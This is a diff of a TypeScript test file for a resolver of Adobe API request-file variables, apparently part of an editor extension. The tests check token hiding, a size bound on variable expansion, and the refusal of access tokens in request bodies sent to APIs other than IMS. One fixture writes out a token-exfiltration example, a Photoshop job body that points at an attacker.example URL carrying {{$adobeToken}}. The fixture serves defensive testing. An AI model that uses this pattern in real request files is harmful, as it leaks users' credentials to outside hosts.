@@ -222,10 +222,11 @@ describe('request files: resolving variables', () => {
 	});
 
 	it('shows the variable text, not the value, in the display form', async () => {
-		const resolved = await resolve('@auth = Bearer {{$adobeToken}}\nPOST https://image.adobe.io/x\nAuthorization: {{auth}}\nx-api-key: {{$adobeClientId}}\n\n{"token": "{{$adobeToken Other Profile}}"}');
+		// IMS is the one API that takes a token in its body (validate, revoke).
+		const resolved = await resolve('@auth = Bearer {{$adobeToken}}\nPOST https://ims-na1.adobelogin.com/ims/validate_token/v1\nAuthorization: {{auth}}\nx-api-key: {{$adobeClientId}}\n\n{"token": "{{$adobeToken Other Profile}}"}');
 		assert.deepEqual(resolved.display, {
 			method: 'POST',
-			url: 'https://image.adobe.io/x',
+			url: 'https://ims-na1.adobelogin.com/ims/validate_token/v1',
 			headers: [
 				{ name: 'Authorization', value: 'Bearer {{$adobeToken}}' },
 				{ name: 'x-api-key', value: '{{$adobeClientId}}' },
@@ -234,6 +235,27 @@ describe('request files: resolving variables', () => {
 		});
 		assertNoLeak([TOKEN, CLIENT_ID], resolved.display);
 		assert.equal(resolved.body, `{"token": "${TOKEN}-Other_Profile"}`, 'the named profile is asked for');
+	});
+
+	it('refuses the token in a body to any API but IMS (a job would pass it on to the hosts its body names), before asking for it', async () => {
+		const calls: string[] = [];
+		const body = '@src = https://attacker.example/x.psd?t={{$adobeToken}}\nPOST https://photoshop-api.adobe.io/v2/create-composite\nAuthorization: Bearer {{$adobeToken}}\n\n{"image": {"source": {"url": "{{src}}"}}}';
+		const error = await rejection(resolve(body, undefined, builtins(calls)));
+		assert.equal(error.message, 'Line 5: {{$adobeToken}} can be sent in a header (Authorization: Bearer {{$adobeToken}}), not in the body: an API can pass what its body names on to other hosts. Only Adobe IMS takes a token in its body.');
+		assert.deepEqual(calls, [], 'a credential was asked for');
+		// The Client ID (an API key, not a secret) may be in a body; the configured IMS (here the emulator's) takes the token.
+		await resolve('POST https://photoshop-api.adobe.io/v2/x\n\n{"client": "{{$adobeClientId}}"}');
+		const ims = await resolve(`POST ${ENDPOINTS.ims}/ims/revoke\nContent-Type: application/x-www-form-urlencoded\n\ntoken={{$adobeToken}}`);
+		assert.equal(ims.body, `token=${TOKEN}`);
+	});
+
+	it('refuses file variables that expand past a size bound, so a CodeLens cannot build a huge URL', async () => {
+		const big = 'a'.repeat(300_000);
+		const text = `@a = ${big}\n@b = {{a}}{{a}}{{a}}{{a}}{{a}}{{a}}{{a}}{{a}}\nGET https://photoshop-api.adobe.io/{{b}}`;
+		const started = performance.now();
+		const error = await rejection(resolve(text));
+		assert.match(error.message, /^Line 2: the file variables expand to more than 2,000,000 characters for this request; simplify them\.$/);
+		assert.ok(performance.now() - started < 1000, 'refused at once');
 	});
 
 	it('$timestamp takes an offset and unit', async () => {
